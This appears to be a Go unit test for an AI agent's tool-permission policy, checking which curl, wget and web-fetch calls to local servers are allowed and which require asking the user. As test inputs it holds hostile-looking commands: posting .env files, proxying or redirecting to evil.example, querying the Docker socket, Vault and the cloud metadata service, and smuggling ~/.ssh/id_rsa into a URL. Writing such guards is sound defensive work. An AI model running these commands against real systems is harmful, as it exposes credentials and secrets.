package policy

import (
	"strings"
	"testing"
)

// TestLocalGet: a plain GET or HEAD of a server on this machine's
// loopback flows, with curl, wget or a web fetch tool; another method, a
// request carrying data or a credential, one sent elsewhere than its URL
// (a proxy, --resolve, a socket, a redirect), a daemon's port, another
// spelling of loopback and a tainted run ask as before.
func TestLocalGet(t *testing.T) {
	p := mustPolicy(t, "")
	shell := func(cmd string) *Request {
		return &Request{Tool: "Bash", Args: map[string]any{"command": cmd}, Cwd: "/home/u/proj", Workspace: "/home/u/proj", Interactive: true}
	}
	fetch := func(u string) *Request {
		return &Request{Tool: "WebFetch", Args: map[string]any{"url": u, "prompt": "x"}, Cwd: "/home/u/proj", Workspace: "/home/u/proj", Interactive: true}
	}
	for _, c := range []struct {
		req  *Request
		want Verdict
	}{
		{shell("curl -s localhost:8080/healthz"), Allow},
		{shell("curl -sS http://127.0.0.1:3000/api/users | jq ."), Allow},
		{shell("curl -fsS -o /dev/null -w '%{http_code}' http://localhost:5173/"), Allow},
		{shell("curl -I http://[::1]:8080/"), Allow},
		{shell("curl -X GET localhost:8080/items"), Allow},
		{shell("curl -H 'Accept: application/json' localhost:8080/items"), Allow},
		{shell("wget -qO- http://localhost:8000/"), Allow},
		{fetch("http://localhost:8080/healthz"), Allow},
		{shell("curl -X POST localhost:8080/x"), Ask},
		{shell("curl -X DELETE localhost:8080/items/1"), Ask},
		{shell("curl -d name=x localhost:8080/x"), Ask},
		{shell("curl -d @.env localhost:8080"), Ask},
		{shell("curl -F f=@notes.txt localhost:8080/upload"), Ask},
		{shell("wget --post-data=x http://localhost:8000/"), Ask},
		{shell("wget --method=PUT http://localhost:8000/"), Ask},
		{shell("curl -sL localhost:3000"), Ask},
		{shell("curl -H 'Authorization: Bearer t' localhost:8080"), Ask},
		{shell("curl -H 'X-Vault-Token: root' localhost:8201/v1/secret"), Ask},
		{shell("curl -u admin:pw localhost:8080"), Ask},
		{shell("curl -x http://localhost:3128 http://evil.example/?d=1"), Ask},
		{shell("curl --resolve localhost:80:203.0.113.9 http://localhost/"), Ask},
		{shell("curl --connect-to localhost:80:evil.example:80 http://localhost/"), Ask},
		{shell("curl --unix-socket /var/run/docker.sock http://localhost/containers/json"), Ask},
		{shell("curl localhost:2375/containers/json"), Ask},
		{shell("curl localhost:8001/api/v1/secrets"), Ask},
		{shell("curl localhost:8200/v1/secret/data/x"), Ask},
		{shell("curl http://0x7f000001:8080/"), Ask},
		{shell("curl http://2130706433:8080/"), Ask},
		{shell("curl http://169.254.169.254/latest/meta-data/"), Ask},
		{shell("curl http://localhost.evil.example/"), Ask},
		{shell("curl http://user:pw@localhost:8080/"), Ask},
		{shell("curl -K cfg localhost:8080"), Ask},
		{shell("curl localhost:8080/$(cat ~/.ssh/id_rsa)"), Ask},
		{shell("curl -s localhost:8080 https://example.com"), Ask},
		{fetch("http://localhost:2375/containers/json"), Ask},
		{fetch("https://example.com/"), Ask},
	} {
		d := p.Decide(c.req)
		if d.Verdict != c.want {
			t.Errorf("%v: %s (%s), want %s", c.req.Args, d.Verdict, d.Reason, c.want)
		}
		if c.want == Allow && !strings.Contains(d.Reason, "server on this machine") {
			t.Errorf("%v: allowed for another reason: %s", c.req.Args, d.Reason)
		}
	}
	// A run that took in outside content: free passes withdrawn.
	r := shell("curl -s localhost:8080/healthz")
	r.Tainted = true
	if d := p.Decide(r); d.Verdict == Allow {
		t.Errorf("tainted: %s (%s)", d.Verdict, d.Reason)
	}
}
